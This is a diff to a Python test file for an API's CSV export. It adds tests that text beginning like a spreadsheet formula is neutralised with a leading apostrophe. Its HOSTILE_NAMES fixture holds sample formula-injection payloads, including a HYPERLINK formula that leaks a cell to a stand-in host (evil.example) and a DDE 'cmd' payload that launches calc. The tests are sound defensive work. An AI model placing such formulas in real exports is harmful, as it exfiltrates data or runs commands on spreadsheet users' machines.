@@ -1,5 +1,6 @@
 """Lists over the API: pagination totals, and `?format=csv` / `Accept: text/csv` giving the
-same items as the JSON (on SQLite and PostgreSQL)."""
+same items as the JSON (on SQLite and PostgreSQL), with text a spreadsheet would run as a
+formula neutralised (issue 9, item 9)."""
 
 from __future__ import annotations
 
@@ -11,6 +12,8 @@ from typing import Any
 import pytest
 import web_setup
 
+from computegov.api.lists import csv_text
+from computegov.csv_cells import FORMULA_STARTS, write_csv
 from conftest import World
 
 
@@ -24,6 +27,8 @@ def _same_value(cell: str, value: Any) -> bool:
         return bool(json.loads(cell) == value)
     if isinstance(value, int | float):
         return float(cell) == value
+    if value.startswith(FORMULA_STARTS):  # neutralised for spreadsheets
+        return cell == "'" + value
     return cell == value
 
 
@@ -104,3 +109,40 @@ def test_bad_paging_or_format_is_a_problem(world: World, query: str) -> None:
     response = world.get(world.admin, f"/v1/parties?{query}")
     assert response.status_code in (400, 422)
     assert response.headers["content-type"].startswith("application/problem+json")
+
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("https://evil.example/?leak="&A2,"Open the invoice")',
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_a_party_named_like_a_formula_comes_back_as_text_in_csv(world: World) -> None:
+    for name in HOSTILE_NAMES:
+        world.create(world.admin, "cloud_provider", name, "NL")
+    as_json = world.get(world.admin, "/v1/parties?limit=1000").json()["items"]
+    assert {p["legal_name"] for p in as_json} >= set(HOSTILE_NAMES)  # JSON is never changed
+    text = world.get(world.admin, "/v1/parties?limit=1000&format=csv").text
+    rows = list(csv.DictReader(io.StringIO(text)))
+    names = {row["legal_name"] for row in rows}
+    assert names >= {"'" + name for name in HOSTILE_NAMES}
+    for row in rows:  # no cell of the export starts like a formula
+        for cell in row.values():
+            assert not cell.startswith(FORMULA_STARTS), cell
+    _assert_csv_matches(text, as_json)
+
+
+def test_numbers_stay_numbers_and_text_that_looks_like_one_is_text() -> None:
+    """Numbers the registry produces (int, float) are written as they are, negative ones
+    too, so a spreadsheet sums and sorts them; only text is neutralised, even text that
+    looks like a negative number (a serial `-5` is not a number)."""
+    items = [{"delta": -3, "share": -0.25, "chips": 7, "serial": "-5", "name": "=1+1"}]
+    (row,) = list(csv.reader(io.StringIO(csv_text(items))))[1:]
+    assert row == ["-3", "-0.25", "7", "'-5", "'=1+1"]
+    out = io.StringIO()
+    write_csv(out, ["year", "change", "label"], [[2030, -1.5, "-high"], [2031, 2, "@x"]])
+    assert out.getvalue() == "year,change,label\r\n2030,-1.5,'-high\r\n2031,2,'@x\r\n"
